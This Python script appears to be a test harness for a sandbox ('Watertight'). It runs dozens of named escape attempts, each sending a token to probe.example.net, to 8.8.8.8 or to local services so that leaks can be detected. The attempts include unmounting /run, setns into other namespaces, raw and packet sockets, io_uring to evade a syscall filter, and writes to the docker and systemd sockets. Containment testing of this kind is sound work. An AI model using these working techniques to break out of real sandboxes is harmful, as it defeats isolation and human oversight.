# Hostile programs, each on a way of its own out of what holds it. Each says a name that nobody else says: it is looked for
# in the packets of the host. What stands in HOSTILE, in the environment, says where things are.
import ctypes, glob, json, mmap, os, platform, signal, socket, ssl, struct, subprocess, sys

C = json.loads(os.environ["HOSTILE"])
libc = ctypes.CDLL(None, use_errno=True)
PUBLIC, PUBLIC6 = "8.8.8.8", "2001:4860:4860::8888"
RESOLVED = "/run/systemd/resolve/io.systemd.Resolve"
patience = 1


def name(token):
    return token + ".probe.example.net"


def question(host, kind=1):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in host.split("."))
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def opened(family, kind, protocol=0):
    s = socket.socket(family, kind, protocol)
    s.settimeout(patience)
    return s


def said(s):
    try:
        return s.recv(4096)[:40]
    except TimeoutError:
        return "no answer"


def datagram(data, at, family=socket.AF_INET, options=()):
    s = opened(family, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for option in options:
        s.setsockopt(*option)
    if at[0].startswith(("224.", "239.", "255.", "ff")):
        s.sendto(data, at)
        return "sent"
    s.connect(at)
    s.send(data)
    return said(s)


def unix(path, data):
    s = opened(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    s.sendall(data)
    return said(s)


# G1: programs of the host that look names up for whoever asks.

def varlink(path, token):
    call = {"method": "io.systemd.Resolve.ResolveHostname", "parameters": {"name": name(token), "family": 2}}
    return unix(path, json.dumps(call).encode() + b"\0")


def bus(token):
    return subprocess.run(
        ["dbus-send", "--bus=unix:path=/run/dbus/system_bus_socket", "--print-reply", "--reply-timeout=2000",
         "--dest=org.freedesktop.resolve1", "/org/freedesktop/resolve1", "org.freedesktop.resolve1.Manager.ResolveHostname",
         "int32:0", "string:" + name(token), "int32:2", "uint64:0"], capture_output=True, text=True).stderr.strip()


def nscd(token):
    key = name(token).encode() + b"\0"
    return unix("/run/nscd/socket", struct.pack("iii", 2, 14, len(key)) + key)  # GETAI of its protocol's version 2


def library(token):
    return socket.getaddrinfo(name(token), 443)[0][4]


def avahi(token):
    return unix("/run/avahi-daemon/socket", f"RESOLVE-HOSTNAME-IPV4 {token}.local\n".encode())


# G2, G3, G4: past the masks, and past the namespaces.

def unmount(token):
    for path in b"/run", b"/var/run", b"/dev/shm", b"/tmp":
        libc.umount2(path, 2)  # lazily
        try:
            return varlink(RESOLVED, token)
        except OSError as e:
            last = e
    raise last


def inherited_socket(token):
    return os.write(C["inherited"][0], question(name(token)))


def inherited_directory(token):
    os.fchdir(C["inherited"][1])
    return varlink(RESOLVED.removeprefix("/run/"), token)


def processes():
    return [str(C["machine"])] if not C.get("everybody") else [p.removeprefix("/proc/") for p in glob.glob("/proc/[0-9]*")]


def proc_root(token):
    for p in processes():
        try:
            return varlink(f"/proc/{p}/root{RESOLVED}", token)
        except OSError as e:
            last = e
    raise last


def set_network(token):
    for p in processes():
        try:
            checked(libc.setns(os.open(f"/proc/{p}/ns/net", os.O_RDONLY), 0x40000000))
            return datagram(question(name(token)), (PUBLIC, 53))
        except OSError as e:
            last = e
    raise last


# G5: past a firewall.

def inner(token, port=53):
    data = question(name(token))
    return struct.pack("!HHHH", 40000, port, 8 + len(data), 0) + data


def raw(token):
    return opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP).sendto(inner(token), (PUBLIC, 0))


def packet(token):
    data = inner(token)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 0, 0, 64, 17, 0, bytes(4), socket.inet_aton(PUBLIC))
    for _, device in socket.if_nameindex():
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.bind((device, 0x800))
        s.send(b"\xff" * 6 + b"\2\0\0\0\0\1\x08\0" + header + data)
    return "sent"


def ping(token):
    for kind in socket.SOCK_DGRAM, socket.SOCK_RAW:
        try:
            return opened(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(b"\x08\0\0\0\0\0\0\0" + token.encode(), (PUBLIC, 0))
        except OSError as e:
            last = e
    raise last


def lite(token):
    return opened(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(question(name(token)), (PUBLIC, 53))  # UDP-Lite


def marked(token):  # as Watertight marks what is its own
    return [datagram(question(name(token)), (PUBLIC, 53), options=[(socket.SOL_SOCKET, socket.SO_MARK, m)]) for m in (1, 2, 0x7774)]


def device(token):
    return datagram(question(name(token)), (PUBLIC, 53), options=[(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"uplink\0")])


# G7: past a filter of system calls. A ring makes the socket, connects it and sends.

def ring(token):
    params = (ctypes.c_uint32 * 30)()
    fd = checked(libc.syscall(425, 8, params))
    sq, cq = params[10:20], params[20:30]  # struct io_sqring_offsets and io_cqring_offsets, after ten fields
    queue = mmap.mmap(fd, sq[6] + 4 * params[0])
    done = mmap.mmap(fd, cq[5] + 16 * params[1], offset=0x8000000)
    entries = mmap.mmap(fd, 64 * params[0], offset=0x10000000)

    def submit(code, file, address=0, length=0, offset=0):
        tail, = struct.unpack_from("I", queue, sq[1])
        slot = tail & struct.unpack_from("I", queue, sq[2])[0]
        entries[64 * slot:64 * slot + 64] = struct.pack("<BBHiQQII", code, 0, 0, file, offset, address, length, 0) + bytes(32)
        struct.pack_into("I", queue, sq[6] + 4 * slot, slot)
        struct.pack_into("I", queue, sq[1], tail + 1)
        checked(libc.syscall(426, fd, 1, 1, 1, None, 0))
        at, = struct.unpack_from("I", done, cq[0])
        result, = struct.unpack_from("i", done, cq[5] + 16 * (at & struct.unpack_from("I", done, cq[2])[0]) + 8)
        struct.pack_into("I", done, cq[0], at + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    s = submit(45, socket.AF_INET, length=0, offset=socket.SOCK_DGRAM)
    to = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", 53) + socket.inet_aton(PUBLIC) + bytes(8), 16)
    submit(16, s, ctypes.addressof(to), 0, 16)
    data = question(name(token))
    what = ctypes.create_string_buffer(data, len(data))
    return submit(26, s, ctypes.addressof(what), len(data))


def unfiltered(token):  # the same by the usual calls: what shows that a filter is there
    return datagram(question(name(token)), (PUBLIC, 53))


# G8 and G11: resolvers of the program's own, and whatever else says names.

def go(token):
    env = dict(os.environ, WATERTIGHT_LAB_ROLE="ordinary", GODEBUG="netdns=go")
    done = subprocess.run([C["self"], "get", "-ca", C["ca"], f"https://{name(token)}/"], env=env, capture_output=True, text=True)
    return done.stdout[-80:] + done.stderr[-80:]


CARES = """
import pycares, select, sys
channel, none = pycares.Channel(timeout=2, tries=1), pycares.ARES_SOCKET_BAD
channel.query(sys.argv[1], pycares.QUERY_TYPE_TXT, lambda answer, error: print(answer or pycares.errno.strerror(error)))
while any(channel.getsock()):
    readable, _, _ = select.select(*channel.getsock(), [], channel.timeout())
    for fd in readable or [none]:
        channel.process_fd(fd, none)
"""


def cares(token):
    done = subprocess.run(["/usr/bin/python3", "-I", "-c", CARES, name(token)], capture_output=True, text=True)
    return done.stdout.strip() + done.stderr.strip()[-80:]


def stream(token):
    s = opened(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((PUBLIC, 53))
    data = question(name(token))
    s.sendall(struct.pack("!H", len(data)) + data)
    return said(s)


def fast(token):
    data = question(name(token))
    s = opened(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(True)
    s.sendto(struct.pack("!H", len(data)) + data, socket.MSG_FASTOPEN, (PUBLIC, 53))
    s.settimeout(patience)
    return said(s)


def tls(port):
    def attack(token):
        s = opened(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((C["resolver"], port))
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        return context.wrap_socket(s, server_hostname=name(token)).version()
    return attack


def to(host, port, before=b""):
    return lambda token: datagram(before + token.encode(), (host, port))


def asks(host, port):
    return lambda token: datagram(question(token + ".local"), (host, port))


def mdns6(token):
    for n, _ in socket.if_nameindex():
        try:
            outcome = datagram(question(token + ".local"), ("ff02::fb", 5353, 0, n), socket.AF_INET6)
        except OSError as e:
            outcome = e
    return outcome


def netbios(token):  # RFC 1002, section 4.2.12; fifteen octets of a name, written in halves
    return datagram(b"\0\1\1\x10\0\1\0\0\0\0\0\0\x20" + b"CA" * 16 + b"\0\0\x20\0\1" + token.encode(), ("255.255.255.255", 137))


# G9: programs that run already, and do what they are told.

def hand(path):
    return lambda token: unix(path.replace("HOME", C["home"]).replace("TMP", C["tmp"]), token.encode() + b"\n")


def port(token):
    s = opened(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("127.0.0.1", C["port"]))
    s.sendall(token.encode() + b"\n")
    return said(s)


def queue(token):
    q = checked(libc.msgget(C["key"], 0))
    return checked(libc.msgsnd(q, ctypes.create_string_buffer(struct.pack("l", 1) + token.encode()), len(token), 0))


def posix_queue(token):
    number = {"x86_64": (240, 242), "aarch64": (180, 182)}[platform.machine()]
    q = checked(libc.syscall(number[0], b"watertight-hostile", os.O_WRONLY, 0, None))
    return checked(libc.syscall(number[1], q, token.encode(), ctypes.c_size_t(len(token)), 0, None))


def shared_memory(token):
    with open("/dev/shm/handed/" + token, "x"):
        return "left"


ATTACKS = {
    "resolved by varlink": lambda token: varlink(RESOLVED, token), "resolved by D-Bus": bus, "nscd by its protocol": nscd,
    "nscd by the C library": library, "avahi": avahi,
    "umount": unmount, "an inherited socket": inherited_socket, "an inherited directory": inherited_directory,
    "another's root in proc": proc_root, "setns": set_network,
    "a raw socket": raw, "a packet socket": packet, "a ping": ping, "UDP-Lite": lite, "a marked datagram": marked, "a bound device": device,
    "io_uring": ring, "the usual calls": unfiltered,
    "static Go": go, "c-ares": cares, "DNS over UDP": unfiltered, "DNS over TCP": stream, "TCP fast open": fast,
    "DNS over UDP and IPv6": lambda token: datagram(question(name(token)), (PUBLIC6, 53), socket.AF_INET6),
    "DNS over TLS": tls(853), "DNS over HTTPS": tls(443), "DNS over QUIC": to(PUBLIC, 853, b"\xc0\0\0\0\1"), "QUIC": to(PUBLIC, 443, b"\xc0\0\0\0\1"),
    "STUN": to(PUBLIC, 3478, b"\0\1\0\0\x21\x12\xa4\x42"), "mDNS": asks("224.0.0.251", 5353), "mDNS over IPv6": mdns6,
    "LLMNR": asks("224.0.0.252", 5355), "NetBIOS": netbios, "SSDP": to("239.255.255.250", 1900), "WPAD by DHCP": to("255.255.255.255", 67),
    "a socket in /run": hand("/run/user/opener"), "docker's socket": hand("/var/run/docker.sock"), "systemd's socket": hand("/run/systemd/private"),
    "a socket in the home directory": hand("HOME/.opener/socket"), "a socket in /tmp": hand("TMP/opener"),
    "an abstract socket": hand("\0watertight-hostile"), "a port on loopback": port,
    "a System V queue": queue, "a POSIX queue": posix_queue, "shared memory": shared_memory,
}

# Each in a process of its own, all at once.
for wanted in sys.argv[1:]:
    attack, token = wanted.split("=")
    if os.fork() == 0:
        signal.alarm(60)
        try:
            outcome = ATTACKS[attack](token)
        except Exception as e:
            outcome = f"{type(e).__name__}: {e}"
        os.write(1, f"{attack}: {outcome}\n".encode())
        os._exit(0)
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
